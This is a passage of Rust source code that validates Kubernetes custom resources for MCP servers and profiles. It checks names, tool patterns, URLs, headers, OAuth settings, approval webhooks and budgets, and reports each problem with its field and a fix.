//! Validation of both kinds, for everything the CRD schema says and what it cannot say (glob
//! syntax, `${ENV:...}` references, URL shape, duplicate names, reserved headers).
//!
//! The schema rules are repeated here on purpose: local mode, `spearlet validate`, the webhook and
//! the operator's `Accepted` condition all report the same field-named error, with or without an
//! API server in front. Every problem is returned at once, each with its field path and the fix.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

use k8s_openapi::api::core::v1::EnvVar;
use k8s_openapi::apimachinery::pkg::apis::meta::v1::LabelSelector;
use kube::core::ObjectMeta;

use super::env_ref;
use super::{ApprovalPolicy, AuthorizationCodeAuth, HttpAuth, HttpSpec, McpProfile, McpServer, StdioSpec, Transport};

/// One problem in a resource: the field path (`spec.http.url`), what is wrong, and how to fix it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct ValidationError {
    /// Path of the offending field, as `kubectl explain` spells it, with list indexes.
    pub(crate) field: String,
    pub(crate) message: String,
    /// What to do about it.
    pub(crate) fix: String,
}

impl fmt::Display for ValidationError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {} ({})", self.field, self.message, self.fix)
    }
}

impl std::error::Error for ValidationError {}

/// Something that can check itself.
pub(crate) trait Validate {
    /// Every problem found; empty means valid.
    fn validate(&self) -> Vec<ValidationError>;
}

/// Collects problems while walking an object.
#[derive(Default)]
struct Problems(Vec<ValidationError>);

impl Problems {
    fn push(&mut self, field: impl Into<String>, message: impl Into<String>, fix: impl Into<String>) {
        self.0.push(ValidationError { field: field.into(), message: message.into(), fix: fix.into() });
    }

    fn range(&mut self, field: &str, value: Option<u32>, min: u32, max: u32) {
        if let Some(v) = value.filter(|v| !(min..=max).contains(v)) {
            self.push(field, format!("{v} is out of range"), format!("use a value from {min} to {max}"));
        }
    }

    fn rate_limit(&mut self, field: &str, limit: &super::RateLimit) {
        for (field, message, fix) in super::rate_limit::problems(field, limit) {
            self.push(field, message, fix);
        }
    }

    /// A map of pattern → limit: at most 64 patterns, each a valid tool pattern.
    fn rate_limits(&mut self, field: &str, limits: &super::rate_limit::RateLimits) {
        use super::rate_limit::MAX_RATE_LIMIT_PATTERNS;
        if limits.len() > MAX_RATE_LIMIT_PATTERNS {
            let fix = format!("list at most {MAX_RATE_LIMIT_PATTERNS}; one pattern can cover many tools");
            self.push(field, format!("has {} patterns", limits.len()), fix);
        }
        for (pattern, limit) in limits {
            let field = format!("{field}[{pattern}]");
            if let Err((message, fix)) = check_tool_pattern(pattern) {
                self.push(field.clone(), message, fix);
            }
            self.rate_limit(&field, limit);
        }
    }

    fn max_items<T>(&mut self, field: &str, items: &[T], max: usize) {
        if items.len() > max {
            self.push(field, format!("has {} items", items.len()), format!("list at most {max}"));
        }
    }
}

/// Bounds shared with the CRD schema (kept in one place so both agree).
mod bounds {
    pub(crate) const TOOL_TIMEOUT_MS: (u32, u32) = (1, 3_600_000);
    pub(crate) const MAX_CONCURRENCY: (u32, u32) = (1, 1024);
    pub(crate) const MAX_TOOL_OUTPUT_BYTES: (u32, u32) = (1, 16_777_216);
    // At least 1 s: less cannot even spawn a process on a busy node. At most 15 min: longer
    // hides a server that never starts.
    pub(crate) const STARTUP_TIMEOUT_MS: (u32, u32) = (1000, 900_000);
    pub(crate) const MAX_ITERATIONS: (u32, u32) = (1, 100);
    pub(crate) const MAX_TOTAL_TOOL_CALLS: (u32, u32) = (1, 1000);
    pub(crate) const TOOL_PATTERNS: usize = 128;
    pub(crate) const PROFILE_PATTERNS: usize = 256;
    /// OpenAI's API takes at most 128 tools per request.
    pub(crate) const MAX_TOOLS: (u32, u32) = (1, 128);
    pub(crate) const ALWAYS_INCLUDE: usize = 64;
    pub(crate) const PATTERN_LEN: usize = 256;
    pub(crate) const URI_PATTERN_LEN: usize = 1024;
    pub(crate) const SERVERS: usize = 64;
    pub(crate) const ENV: usize = 128;
    pub(crate) const HEADERS: usize = 64;
}

/// Headers the MCP transport sets itself; a configured value would break the protocol.
const RESERVED_HEADERS: &[&str] = &[
    "accept",
    "connection",
    "content-length",
    "content-type",
    "host",
    "mcp-protocol-version",
    "mcp-session-id",
    "transfer-encoding",
];

/// Whether `ns` is a valid `toolNamespace`: 1 to 32 letters, digits, `-` or `_`, without `__`
/// (the separator of tool names) and not starting or ending with `_`.
pub(crate) fn is_tool_namespace(ns: &str) -> bool {
    let valid_chars = ns.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_');
    !ns.is_empty() && ns.len() <= 32 && valid_chars && !ns.contains("__") && !ns.starts_with('_') && !ns.ends_with('_')
}

/// Whether `s` is a DNS-1123 label (`[a-z0-9]([-a-z0-9]*[a-z0-9])?`, at most 63 characters).
pub(crate) fn is_dns1123_label(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 63
        && s.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
        && !s.starts_with('-')
        && !s.ends_with('-')
}

/// Whether `s` is a DNS-1123 subdomain (labels joined by dots, at most 253 characters).
pub(crate) fn is_dns1123_subdomain(s: &str) -> bool {
    s.len() <= 253 && s.split('.').all(is_dns1123_label)
}

/// Checks one tool-name glob pattern: `*` and `?` are the only wildcards, the rest is literal.
/// Returns the problem and its fix.
pub(crate) fn check_tool_pattern(pattern: &str) -> Result<(), (String, String)> {
    check_pattern(pattern, bounds::PATTERN_LEN)
}

/// [`check_tool_pattern`] for patterns up to `max_len` bytes (resource URIs are longer).
fn check_pattern(pattern: &str, max_len: usize) -> Result<(), (String, String)> {
    if pattern.is_empty() {
        return Err(("pattern is empty".into(), "remove it, or use '*' to match everything".into()));
    }
    if pattern.len() > max_len {
        return Err((format!("pattern is {} bytes long", pattern.len()), format!("use at most {max_len} bytes")));
    }
    if let Some(c) = pattern.chars().find(|c| matches!(c, '[' | ']' | '{' | '}' | '\\')) {
        return Err((
            format!("'{c}' is not supported in tool patterns"),
            "use only '*' (any run of characters) and '?' (one character) as wildcards".into(),
        ));
    }
    if pattern.chars().any(|c| c.is_whitespace() || c.is_control()) {
        return Err((
            "pattern contains whitespace or control characters".into(),
            "tool names have none; remove them".into(),
        ));
    }
    globset::Glob::new(pattern)
        .map(|_| ())
        .map_err(|e| (format!("pattern does not compile: {e}"), "use '*' and '?' as the only wildcards".into()))
}

fn check_patterns(p: &mut Problems, field: &str, patterns: &[String], max: usize) {
    check_patterns_up_to(p, field, patterns, max, bounds::PATTERN_LEN);
}

fn check_patterns_up_to(p: &mut Problems, field: &str, patterns: &[String], max: usize, max_len: usize) {
    p.max_items(field, patterns, max);
    for (i, pattern) in patterns.iter().enumerate() {
        if let Err((message, fix)) = check_pattern(pattern, max_len) {
            p.push(format!("{field}[{i}]"), message, fix);
        }
    }
}

fn check_template(p: &mut Problems, field: &str, value: &str) {
    match env_ref::parse(value) {
        Err(e) => p.push(
            field,
            e.to_string(),
            "write references as ${ENV:NAME} or ${ENV:NAME:-default}, and a literal '${' as '$${'",
        ),
        Ok(template) => {
            for name in template.references().filter(|n| env_ref::is_reserved(n)) {
                p.push(
                    field,
                    format!("references ${{ENV:{name}}}, a variable the agent reserves for itself (its configuration and credentials)"),
                    "take the value from a Secret with valueFrom.secretKeyRef (the Secret must allow this server), or reference a variable outside SPEAR_*, POD_NAME, POD_NAMESPACE and KUBECONFIG",
                );
            }
        }
    }
}

fn check_http_url(p: &mut Problems, field: &str, raw: &str) {
    match url::Url::parse(raw) {
        Err(e) => p.push(
            field,
            // The URL itself is not repeated: problems reach status and events, readable by more
            // people than the manifest, and a malformed URL may still carry a credential.
            format!("not a valid URL: {e}"),
            "use an absolute URL such as https://mcp.example.com/mcp",
        ),
        Ok(u) if !matches!(u.scheme(), "http" | "https") => {
            p.push(field, format!("scheme '{}' is not supported", u.scheme()), "use an http:// or https:// URL")
        }
        Ok(u) if u.host_str().is_none_or(str::is_empty) => {
            p.push(field, "URL has no host", "use an absolute URL such as https://mcp.example.com/mcp")
        }
        // Credentials in a URL end up in logs and status; they belong in a header or Secret.
        Ok(u) if !u.username().is_empty() || u.password().is_some() => p.push(
            field,
            "URL contains credentials",
            "remove the user:password part and send credentials in a header whose valueFrom references a Secret",
        ),
        Ok(_) => {}
    }
}

fn check_secret_key_ref(p: &mut Problems, field: &str, secret: &super::SecretKeyRef) {
    if !is_dns1123_subdomain(&secret.name) {
        p.push(
            format!("{field}.name"),
            format!("'{}' is not a valid Secret name", secret.name),
            "use a DNS-1123 subdomain",
        );
    }
    let key_ok = !secret.key.is_empty()
        && secret.key.len() <= 253
        && secret.key.bytes().all(|b| b.is_ascii_alphanumeric() || b"-._".contains(&b));
    if !key_ok {
        p.push(
            format!("{field}.key"),
            format!("'{}' is not a valid Secret key", secret.key),
            "use letters, digits, '-', '_' and '.'",
        );
    }
}

fn validate_profile_approval(p: &mut Problems, approval: &super::ProfileApproval) {
    use super::approval::{MAX_APPROVAL_TIMEOUT_SECONDS, MAX_APPROVERS};
    p.range("spec.approval.timeoutSeconds", approval.timeout_seconds, 1, MAX_APPROVAL_TIMEOUT_SECONDS);
    if approval.approvers.len() > MAX_APPROVERS {
        p.push(
            "spec.approval.approvers",
            format!("has {} approvers", approval.approvers.len()),
            format!("list at most {MAX_APPROVERS}: the first that can be asked decides, so more are never reached"),
        );
    }
    // Two Secret keys whose env var names collide would give one webhook the other's key.
    let mut key_envs: BTreeMap<String, (String, String)> = BTreeMap::new();
    for (i, approver) in approval.approvers.iter().enumerate() {
        let field = format!("spec.approval.approvers[{i}]");
        if approver.kind().is_none() {
            p.push(
                field.clone(),
                "sets none or several of caller, webhook and kubernetes",
                "set exactly one of caller, webhook and kubernetes",
            );
        }
        let Some(webhook) = &approver.webhook else { continue };
        let url_field = format!("{field}.webhook.url");
        let before = p.0.len();
        check_http_url(p, &url_field, &webhook.url);
        // The answer is not signed: over http, anyone on the path could answer "allow".
        if p.0.len() == before && url::Url::parse(&webhook.url).is_ok_and(|u| u.scheme() == "http" && !is_loopback(&u))
        {
            p.push(
                url_field,
                "an http:// approval webhook's answer could be forged by anyone on the network path",
                "use an https:// URL (http:// is for loopback only)",
            );
        }
        let Some(secret) = &webhook.signing_secret_ref else { continue };
        let secret_field = format!("{field}.webhook.signingSecretRef");
        check_secret_key_ref(p, &secret_field, secret);
        let env = super::names::approval_key_env_var(&secret.name, &secret.key);
        let this = (secret.name.clone(), secret.key.clone());
        match key_envs.get(&env) {
            Some(other) if *other != this => p.push(
                secret_field,
                format!("'{}/{}' and '{}/{}' share the env var {env}", other.0, other.1, this.0, this.1),
                "rename one Secret key so the names differ in more than punctuation",
            ),
            _ => {
                key_envs.insert(env, this);
            }
        }
    }
}

fn check_meta_name(p: &mut Problems, meta: &ObjectMeta, label: bool) {
    match meta.name.as_deref() {
        None | Some("") => p.push("metadata.name", "name is missing", "set metadata.name"),
        Some(name) if label && !is_dns1123_label(name) => p.push(
            "metadata.name",
            format!("'{name}' is not a DNS-1123 label"),
            "use lowercase letters, digits and '-', starting and ending with a letter or digit, at most 63 characters",
        ),
        Some(name) if !label && !is_dns1123_subdomain(name) => p.push(
            "metadata.name",
            format!("'{name}' is not a DNS-1123 subdomain"),
            "use lowercase letters, digits, '-' and '.', at most 253 characters",
        ),
        Some(_) => {}
    }
}

// === impl Validate for McpServer ===

impl Validate for McpServer {
    fn validate(&self) -> Vec<ValidationError> {
        let mut p = Problems::default();
        check_meta_name(&mut p, &self.metadata, true);
        let spec = &self.spec;

        if let Some(name) = &spec.display_name
            && name.chars().count() > 128
        {
            p.push("spec.displayName", "longer than 128 characters", "shorten it");
        }

        match (spec.transport, &spec.stdio, &spec.http) {
            (Transport::Stdio, None, _) => {
                p.push("spec.stdio", "required when spec.transport is stdio", "add spec.stdio.command (and args)")
            }
            (Transport::Stdio, Some(_), Some(_)) => p.push(
                "spec.http",
                "must not be set when spec.transport is stdio",
                "remove spec.http, or set spec.transport to streamableHttp",
            ),
            (Transport::StreamableHttp, _, None) => p.push(
                "spec.http",
                "spec.http.url is required when spec.transport is streamableHttp",
                "add spec.http.url",
            ),
            (Transport::StreamableHttp, Some(_), Some(_)) => p.push(
                "spec.stdio",
                "must not be set when spec.transport is streamableHttp",
                "remove spec.stdio, or set spec.transport to stdio",
            ),
            _ => {}
        }
        if let Some(stdio) = &spec.stdio {
            validate_stdio(&mut p, stdio);
        }
        if let Some(http) = &spec.http {
            validate_http(&mut p, http);
        }

        if let Some(ns) = &spec.tool_namespace
            && !is_tool_namespace(ns)
        {
            p.push(
                "spec.toolNamespace",
                format!("'{ns}' is not a valid tool namespace"),
                "use 1 to 32 letters, digits, '-' or '_', without '__' and not starting or ending with '_'",
            );
        }
        check_patterns(&mut p, "spec.allowedTools", &spec.allowed_tools, bounds::TOOL_PATTERNS);
        check_patterns(&mut p, "spec.deniedTools", &spec.denied_tools, bounds::TOOL_PATTERNS);
        let (n, len) = (bounds::TOOL_PATTERNS, bounds::URI_PATTERN_LEN);
        check_patterns_up_to(&mut p, "spec.allowedResources", &spec.allowed_resources, n, len);
        check_patterns_up_to(&mut p, "spec.deniedResources", &spec.denied_resources, n, len);
        check_patterns(&mut p, "spec.allowedPrompts", &spec.allowed_prompts, bounds::TOOL_PATTERNS);
        check_patterns(&mut p, "spec.deniedPrompts", &spec.denied_prompts, bounds::TOOL_PATTERNS);
        if let Some(policy) = &spec.approval_policy {
            validate_approval(&mut p, policy);
        }
        for (field, message, fix) in spec.pinning.as_ref().map(super::pinning::problems).unwrap_or_default() {
            p.push(field, message, fix);
        }
        if let Some(b) = &spec.budgets {
            let (lo, hi) = bounds::TOOL_TIMEOUT_MS;
            p.range("spec.budgets.toolTimeoutMs", b.tool_timeout_ms, lo, hi);
            let (lo, hi) = bounds::MAX_CONCURRENCY;
            p.range("spec.budgets.maxConcurrency", b.max_concurrency, lo, hi);
            let (lo, hi) = bounds::MAX_TOOL_OUTPUT_BYTES;
            p.range("spec.budgets.maxToolOutputBytes", b.max_tool_output_bytes, lo, hi);
            let (lo, hi) = bounds::STARTUP_TIMEOUT_MS;
            p.range("spec.budgets.startupTimeoutMs", b.startup_timeout_ms, lo, hi);
            if let Some(limit) = &b.rate_limit {
                p.rate_limit("spec.budgets.rateLimit", limit);
            }
            p.rate_limits("spec.budgets.toolRateLimits", &b.tool_rate_limits);
        }
        p.0
    }
}

fn validate_stdio(p: &mut Problems, stdio: &StdioSpec) {
    if stdio.command.trim().is_empty() {
        p.push("spec.stdio.command", "command is empty", "set the executable to run, for example npx");
    } else if stdio.command.contains('\0') {
        p.push("spec.stdio.command", "command contains a NUL byte", "remove it");
    } else if stdio.command.contains(char::is_whitespace)
        && (!stdio.command.starts_with('/') || stdio.command.contains(" -"))
    {
        // `command: "npx -y pkg"` is the classic mistake: it is an argv, never a shell line. An
        // absolute path may contain spaces; a space before an option never belongs to a path.
        p.push(
            "spec.stdio.command",
            format!("'{}' looks like a whole command line; it is run without a shell", stdio.command),
            "put only the executable in command and each argument as an item of spec.stdio.args",
        );
    }
    if let Some(i) = stdio.args.iter().position(|a| a.contains('\0')) {
        p.push(format!("spec.stdio.args[{i}]"), "argument contains a NUL byte", "remove it");
    }
    if stdio.image.as_deref() == Some("") {
        p.push("spec.stdio.image", "image is empty", "set the sidecar image, or remove the field");
    }
    if stdio.working_dir.as_deref() == Some("") {
        p.push("spec.stdio.workingDir", "workingDir is empty", "set a directory, or remove the field");
    }
    validate_env(p, &stdio.env);
}

fn validate_env(p: &mut Problems, env: &[EnvVar]) {
    p.max_items("spec.stdio.env", env, bounds::ENV);
    let mut seen = BTreeSet::new();
    for (i, var) in env.iter().enumerate() {
        let field = format!("spec.stdio.env[{i}]");
        if var.name.is_empty() || var.name.contains('=') || var.name.chars().any(char::is_control) {
            p.push(
                format!("{field}.name"),
                format!("'{}' is not a valid variable name", var.name),
                "use a name such as API_TOKEN, without '='",
            );
        } else if env_ref::is_reserved(&var.name) {
            p.push(
                format!("{field}.name"),
                format!("'{}' is reserved: spearlet (the sidecar's bridge) reads SPEAR_* variables itself", var.name),
                "rename the variable",
            );
        } else if !seen.insert(var.name.as_str()) {
            p.push(format!("{field}.name"), format!("'{}' is set twice", var.name), "keep one entry per variable name");
        }
        if var.value.is_some() && var.value_from.is_some() {
            p.push(field.clone(), "both value and valueFrom are set", "keep one of them");
        }
        if let Some(value) = &var.value {
            check_template(p, &format!("{field}.value"), value);
        }
        if let Some(source) = &var.value_from {
            let supported = source.secret_key_ref.is_some() || source.config_map_key_ref.is_some();
            let others =
                source.field_ref.is_some() || source.resource_field_ref.is_some() || source.file_key_ref.is_some();
            if !supported || others {
                p.push(
                    format!("{field}.valueFrom"),
                    "only secretKeyRef and configMapKeyRef are supported",
                    "reference a Secret or ConfigMap key, or use a literal value",
                );
            }
        }
    }
}

fn validate_http(p: &mut Problems, http: &HttpSpec) {
    check_http_url(p, "spec.http.url", &http.url);
    p.max_items("spec.http.headers", &http.headers, bounds::HEADERS);
    let mut seen = BTreeSet::new();
    for (i, header) in http.headers.iter().enumerate() {
        let field = format!("spec.http.headers[{i}]");
        let lower = header.name.to_ascii_lowercase();
        let is_token = !header.name.is_empty()
            && header.name.bytes().all(|b| b.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&b));
        if !is_token {
            p.push(
                format!("{field}.name"),
                format!("'{}' is not a valid header name", header.name),
                "use an HTTP token such as Authorization or X-Api-Key",
            );
        } else if RESERVED_HEADERS.contains(&lower.as_str()) {
            p.push(
                format!("{field}.name"),
                format!("'{}' is set by the MCP transport itself", header.name),
                "remove this header",
            );
        } else if !seen.insert(lower.clone()) {
            p.push(
                format!("{field}.name"),
                format!("'{}' is set twice (header names are case-insensitive)", header.name),
                "keep one entry per header",
            );
        }
        match (&header.value, &header.value_from) {
            (Some(_), Some(_)) => p.push(field.clone(), "both value and valueFrom are set", "keep one of them"),
            (None, None) => {
                p.push(format!("{field}.value"), "header has no value", "set value, or valueFrom.secretKeyRef")
            }
            (Some(value), None) => check_template(p, &format!("{field}.value"), value),
            (None, Some(_)) => {}
        }
        if http.auth.is_some() && lower == "authorization" {
            p.push(
                format!("{field}.name"),
                "spec.http.auth sets the Authorization header itself",
                "remove this header, or remove spec.http.auth",
            );
        }
    }
    if let Some(auth) = &http.auth {
        validate_auth(p, auth);
    }
}

/// What the schema's CEL rules say too (for local mode, which has no API server), and what
/// they cannot: scope syntax and non-empty identifiers.
fn validate_auth(p: &mut Problems, auth: &HttpAuth) {
    let modes = [
        auth.client_credentials.is_some(),
        auth.service_account_token.is_some(),
        auth.token_exchange.is_some(),
        auth.authorization_code.is_some(),
    ];
    if modes.iter().filter(|m| **m).count() != 1 {
        p.push(
            "spec.http.auth",
            "needs exactly one mode",
            "set one of clientCredentials, serviceAccountToken, tokenExchange and authorizationCode",
        );
    }
    if let Some(ac) = &auth.authorization_code {
        validate_authorization_code(p, ac);
    }
    p.max_items("spec.http.auth.scopes", &auth.scopes, bounds::HEADERS);
    for (i, scope) in auth.scopes.iter().enumerate() {
        // RFC 6749 section 3.3: scope-token = 1*( %x21 / %x23-5B / %x5D-7E )
        let valid = !scope.is_empty()
            && scope.len() <= 256
            && scope.bytes().all(|b| b == 0x21 || (0x23..=0x5b).contains(&b) || (0x5d..=0x7e).contains(&b));
        if !valid {
            p.push(
                format!("spec.http.auth.scopes[{i}]"),
                format!("{scope:?} is not an OAuth scope token"),
                "use printable ASCII without spaces, quotes or backslashes (for example mcp:read)",
            );
        }
    }
    if let Some(cc) = &auth.client_credentials {
        if cc.client_id.trim().is_empty() {
            p.push(
                "spec.http.auth.clientCredentials.clientId",
                "is empty",
                "set the id the authorization server registered",
            );
        }
        if cc.client_secret.is_some() == cc.private_key.is_some() {
            p.push(
                "spec.http.auth.clientCredentials",
                "needs exactly one credential",
                "set clientSecret.secretKeyRef or privateKey.secretKeyRef",
            );
        }
    }
    validate_issuer(p, auth);
    let audiences = [
        auth.service_account_token
            .as_ref()
            .map(|a| ("spec.http.auth.serviceAccountToken", &a.audience, a.expiration_seconds)),
        auth.token_exchange.as_ref().map(|a| ("spec.http.auth.tokenExchange", &a.audience, a.expiration_seconds)),
    ];
    for (field, audience, seconds) in audiences.into_iter().flatten() {
        if audience.trim().is_empty() {
            p.push(format!("{field}.audience"), "is empty", "set the identifier the receiving server expects in `aud`");
        }
        if let Some(seconds) = seconds.filter(|s| !(600..=86_400).contains(s)) {
            p.push(
                format!("{field}.expirationSeconds"),
                format!("{seconds} is out of range"),
                "use 600 to 86400 (the kubelet's bounds for projected tokens)",
            );
        }
    }
}

/// `spec.http.auth.authorizationCode`.
fn validate_authorization_code(p: &mut Problems, ac: &AuthorizationCodeAuth) {
    const FIELD: &str = "spec.http.auth.authorizationCode";
    if ac.client_id.is_some() && ac.client_id_metadata_url.is_some() {
        p.push(
            FIELD,
            "sets both clientId and clientIdMetadataUrl",
            "keep clientId for a pre-registered client, or clientIdMetadataUrl for a metadata document",
        );
    }
    if ac.client_id.as_deref().is_some_and(|id| id.trim().is_empty()) {
        p.push(format!("{FIELD}.clientId"), "is empty", "set the id the authorization server registered, or remove it");
    }
    if ac.client_secret.is_some() && ac.client_id.is_none() {
        p.push(
            format!("{FIELD}.clientSecret"),
            "belongs to a pre-registered client",
            "set clientId too, or remove clientSecret (a dynamically registered client gets its own)",
        );
    }
    if let Some(url) = ac.client_id_metadata_url.as_deref() {
        let field = format!("{FIELD}.clientIdMetadataUrl");
        match url::Url::parse(url) {
            Ok(u) if u.scheme() == "https" && u.host_str().is_some() && u.fragment().is_none() => {}
            _ => p.push(
                field,
                format!("{url:?} is not an https:// URL"),
                "use the https:// URL that serves the client's metadata document (it is the client id)",
            ),
        }
    }
    if let Some(secret) = &ac.token_secret_ref
        && !is_dns1123_subdomain(&secret.name)
    {
        p.push(
            format!("{FIELD}.tokenSecretRef.name"),
            format!("{:?} is not a Secret name", secret.name),
            "use a DNS-1123 subdomain: lower-case letters, digits, '-' and '.'",
        );
    }
}

/// Whether `u` names loopback (`localhost` or a loopback literal).
fn is_loopback(u: &url::Url) -> bool {
    match u.host() {
        Some(url::Host::Domain(d)) => d.eq_ignore_ascii_case("localhost"),
        Some(url::Host::Ipv4(ip)) => ip.is_loopback(),
        Some(url::Host::Ipv6(ip)) => ip.is_loopback(),
        None => false,
    }
}

/// `auth.issuer`: a clean issuer URL, present where the mode sends a credential that is good
/// elsewhere (see `HttpAuth::issuer`).
fn validate_issuer(p: &mut Problems, auth: &HttpAuth) {
    const FIELD: &str = "spec.http.auth.issuer";
    if let Some(issuer) = auth.issuer.as_deref() {
        let before = p.0.len();
        check_http_url(p, FIELD, issuer);
        if p.0.len() == before
            && let Ok(u) = url::Url::parse(issuer)
        {
            if u.scheme() == "http" && !is_loopback(&u) {
                p.push(
                    FIELD,
                    "an http:// issuer would receive the credential in clear text",
                    "use the authorization server's https:// issuer (http:// is for loopback only)",
                );
            }
            if u.query().is_some() || u.fragment().is_some() {
                p.push(
                    FIELD,
                    "an issuer identifier has no query or fragment (RFC 8414 section 2)",
                    "use the issuer exactly as the authorization server's metadata names it",
                );
            }
        }
    } else if auth.needs_issuer() && auth.pinned_issuer().is_none() {
        let why = if auth.token_exchange.is_some() {
            "tokenExchange sends the pod's service-account token to an authorization server, and its audience \
             is not an https:// URL to default to"
        } else if auth.authorization_code.is_some() {
            "authorizationCode sends a person's refresh token to an authorization server"
        } else {
            "clientCredentials.clientSecret sends the client secret to an authorization server"
        };
        p.push(
            FIELD,
            format!("is required: {why}, which the MCP server must not choose"),
            "set issuer to the authorization server's issuer identifier (the `issuer` of its \
             /.well-known/oauth-authorization-server metadata), for example https://sso.example.com",
        );
    }
}

fn validate_approval(p: &mut Problems, policy: &ApprovalPolicy) {
    for pattern in policy.tools.keys() {
        if let Err((message, fix)) = check_tool_pattern(pattern) {
            p.push(format!("spec.approvalPolicy.tools[{pattern}]"), message, fix);
        }
    }
}

// === impl Validate for McpProfile ===

impl Validate for McpProfile {
    fn validate(&self) -> Vec<ValidationError> {
        let mut p = Problems::default();
        check_meta_name(&mut p, &self.metadata, false);
        let spec = &self.spec;

        check_server_names(&mut p, "spec.servers", &spec.servers);
        if spec.servers.is_empty() && spec.server_selector.is_none() {
            p.push(
                "spec.servers",
                "the profile allows no server",
                "list McpServer names in spec.servers, or set spec.serverSelector",
            );
        }
        if let Some(selector) = &spec.server_selector {
            validate_selector(&mut p, "spec.serverSelector", selector);
        }
        if let Some(defaults) = &spec.default_servers {
            check_server_names(&mut p, "spec.defaultServers", defaults);
            if spec.server_selector.is_none() {
                for (i, name) in defaults.iter().enumerate() {
                    if !spec.servers.contains(name) {
                        p.push(
                            format!("spec.defaultServers[{i}]"),
                            format!("'{name}' is not in spec.servers"),
                            "add it to spec.servers, or remove it from spec.defaultServers (defaults can only narrow)",
                        );
                    }
                }
            }
        }
        if let Some(allow) = &spec.tool_allowlist {
            check_patterns(&mut p, "spec.toolAllowlist", allow, bounds::PROFILE_PATTERNS);
        }
        check_patterns(&mut p, "spec.toolDenylist", &spec.tool_denylist, bounds::PROFILE_PATTERNS);
        let (n, len) = (bounds::PROFILE_PATTERNS, bounds::URI_PATTERN_LEN);
        if let Some(allow) = &spec.resource_allowlist {
            check_patterns_up_to(&mut p, "spec.resourceAllowlist", allow, n, len);
        }
        check_patterns_up_to(&mut p, "spec.resourceDenylist", &spec.resource_denylist, n, len);
        if let Some(allow) = &spec.prompt_allowlist {
            check_patterns(&mut p, "spec.promptAllowlist", allow, bounds::PROFILE_PATTERNS);
        }
        check_patterns(&mut p, "spec.promptDenylist", &spec.prompt_denylist, bounds::PROFILE_PATTERNS);

        if let Some(b) = &spec.budgets {
            let (lo, hi) = bounds::MAX_ITERATIONS;
            p.range("spec.budgets.maxIterations", b.max_iterations, lo, hi);
            let (lo, hi) = bounds::MAX_TOTAL_TOOL_CALLS;
            p.range("spec.budgets.maxTotalToolCalls", b.max_total_tool_calls, lo, hi);
            let (lo, hi) = bounds::MAX_TOOL_OUTPUT_BYTES;
            p.range("spec.budgets.maxToolOutputBytes", b.max_tool_output_bytes, lo, hi);
            let (lo, hi) = bounds::TOOL_TIMEOUT_MS;
            p.range("spec.budgets.toolTimeoutMs", b.tool_timeout_ms, lo, hi);
        }
        p.rate_limits("spec.rateLimits", &spec.rate_limits);
        for (i, filter) in spec.output_filters.iter().enumerate() {
            if spec.output_filters[..i].iter().any(|f| f.detector == filter.detector) {
                p.push(
                    format!("spec.outputFilters[{i}].detector"),
                    format!("{} is listed twice", filter.detector.as_str()),
                    "list each detector once, with the action you want",
                );
            }
        }
        if let Some(upstream) = spec.chat.as_ref().and_then(|c| c.upstream.as_ref()) {
            check_http_url(&mut p, "spec.chat.upstream.url", &upstream.url);
            if let Some(secret) = &upstream.api_key_secret_ref {
                check_secret_key_ref(&mut p, "spec.chat.upstream.apiKeySecretRef", secret);
            }
            if upstream.model.as_deref() == Some("") {
                p.push("spec.chat.upstream.model", "model is empty", "name a model, or remove the field");
            }
        }
        if let Some(approval) = &spec.approval {
            validate_profile_approval(&mut p, approval);
        }
        if let Some(selection) = spec.chat.as_ref().and_then(|c| c.tool_selection.as_ref()) {
            let (lo, hi) = bounds::MAX_TOOLS;
            p.range("spec.chat.toolSelection.maxTools", selection.max_tools, lo, hi);
            let always = &selection.always_include;
            check_patterns(&mut p, "spec.chat.toolSelection.alwaysInclude", always, bounds::ALWAYS_INCLUDE);
        }
        if let Some(identity) = &spec.identity {
            check_granted_servers(&mut p, "spec.identity.servers", &identity.servers);
            let mounts = &identity.mount_service_account_token;
            check_granted_servers(&mut p, "spec.identity.mountServiceAccountToken", mounts);
            p.max_items("spec.identity.audiences", &identity.audiences, bounds::SERVERS);
            for (i, audience) in identity.audiences.iter().enumerate() {
                let printable = audience.chars().all(|c| !c.is_whitespace() && !c.is_control());
                if audience.is_empty() || audience.len() > 1024 || !printable {
                    p.push(
                        format!("spec.identity.audiences[{i}]"),
                        format!("{audience:?} is not a token audience"),
                        "use the audience exactly as the McpServer's auth spells it (1 to 1024 characters, no spaces), or * for any audience but the forbidden ones",
                    );
                }
            }
        }
        p.0
    }
}

/// The server names of an identity grant: McpServer names, or `*`.
fn check_granted_servers(p: &mut Problems, field: &str, names: &[String]) {
    p.max_items(field, names, bounds::SERVERS);
    for (i, name) in names.iter().enumerate() {
        if name != "*" && !is_dns1123_label(name) {
            p.push(
                format!("{field}[{i}]"),
                format!("'{name}' is not a valid McpServer name"),
                "use the McpServer's metadata.name, a DNS-1123 label, or * for every server of the profile",
            );
        }
    }
}

fn check_server_names(p: &mut Problems, field: &str, names: &[String]) {
    p.max_items(field, names, bounds::SERVERS);
    let mut seen = BTreeSet::new();
    for (i, name) in names.iter().enumerate() {
        if !is_dns1123_label(name) {
            p.push(
                format!("{field}[{i}]"),
                format!("'{name}' is not a valid McpServer name"),
                "use the McpServer's metadata.name, a DNS-1123 label",
            );
        } else if !seen.insert(name) {
            p.push(format!("{field}[{i}]"), format!("'{name}' is listed twice"), "list each server once");
        }
    }
}

fn validate_selector(p: &mut Problems, field: &str, selector: &LabelSelector) {
    for (i, req) in selector.match_expressions.iter().flatten().enumerate() {
        let f = format!("{field}.matchExpressions[{i}]");
        let values = req.values.as_deref().unwrap_or_default();
        match req.operator.as_str() {
            "In" | "NotIn" if values.is_empty() => p.push(
                format!("{f}.values"),
                format!("operator {} needs at least one value", req.operator),
                "add values",
            ),
            "Exists" | "DoesNotExist" if !values.is_empty() => {
                p.push(format!("{f}.values"), format!("operator {} takes no values", req.operator), "remove values")
            }
            "In" | "NotIn" | "Exists" | "DoesNotExist" => {}
            other => p.push(
                format!("{f}.operator"),
                format!("unknown operator '{other}'"),
                "use In, NotIn, Exists or DoesNotExist",
            ),
        }
        if req.key.is_empty() {
